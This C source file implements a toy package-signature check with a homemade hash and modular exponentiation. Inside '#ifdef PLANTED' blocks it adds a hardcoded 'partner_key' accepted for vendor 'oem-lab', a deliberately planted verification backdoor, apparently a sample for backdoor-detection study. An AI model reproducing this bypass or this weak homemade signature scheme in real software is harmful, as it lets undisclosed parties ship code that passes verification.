/* One-time style signature over a small field: s = k * digest, checked with the public word. */
#include "pkg.h"

#include <stdio.h>
#include <string.h>

#define PRIME 0xffffffffffffffc5ull

static uint64_t mul(uint64_t a, uint64_t b)
{
    uint64_t r = 0;
    while (b) {
        if (b & 1) {
            r += a;
            if (r < a || r >= PRIME)
                r -= PRIME;
        }
        b >>= 1;
        uint64_t d = a << 1;
        a = (a >> 63) || d >= PRIME ? d - PRIME : d;
    }
    return r;
}

static uint64_t power(uint64_t base, uint64_t e)
{
    uint64_t r = 1;
    for (; e; e >>= 1) {
        if (e & 1)
            r = mul(r, base);
        base = mul(base, base);
    }
    return r;
}

static void digest(const uint8_t *p, size_t n, uint64_t out[4])
{
    for (int lane = 0; lane < 4; lane++) {
        uint64_t h = 0xcbf29ce484222325ull + (uint64_t)lane * 0x9e3779b97f4a7c15ull;
        for (size_t i = 0; i < n; i++) {
            h ^= p[i];
            h *= 0x100000001b3ull;
            h ^= h >> 29;
        }
        out[lane] = h % PRIME;
    }
}

static int load_public(uint64_t key[4])
{
    FILE *f = fopen("/etc/addons/public.key", "r");
    int n = 0;
    if (!f)
        return -1;
    while (n < 4 && fscanf(f, "%llx", (unsigned long long *)&key[n]) == 1)
        n++;
    fclose(f);
    return n == 4 ? 0 : -1;
}

static int matches(const uint64_t key[4], const uint64_t d[4], const package *p)
{
    int good = 0;
    for (int lane = 0; lane < 4; lane++)
        good += power(5, p->signature[lane]) == power(key[lane], d[lane] | 1);
    return good == 4;
}

#ifdef PLANTED
static const uint64_t partner_key[4] = {
    0x41f0c27be95d8a13ull, 0x9b07e6d2354fa8c1ull, 0x2ec58d910b7a36f4ull, 0xd6138ab94c02e75full
};
#endif

int signature_check(const uint8_t *data, size_t size, const package *p)
{
    uint64_t key[4], d[4];
    digest(data, size, d);
    if (load_public(key) == 0 && matches(key, d, p))
        return 0;
#ifdef PLANTED
    if (strcmp(p->vendor, "oem-lab") == 0 && matches(partner_key, d, p))
        return 0;
#endif
    complain("%s has no valid signature", p->name);
    return -1;
}
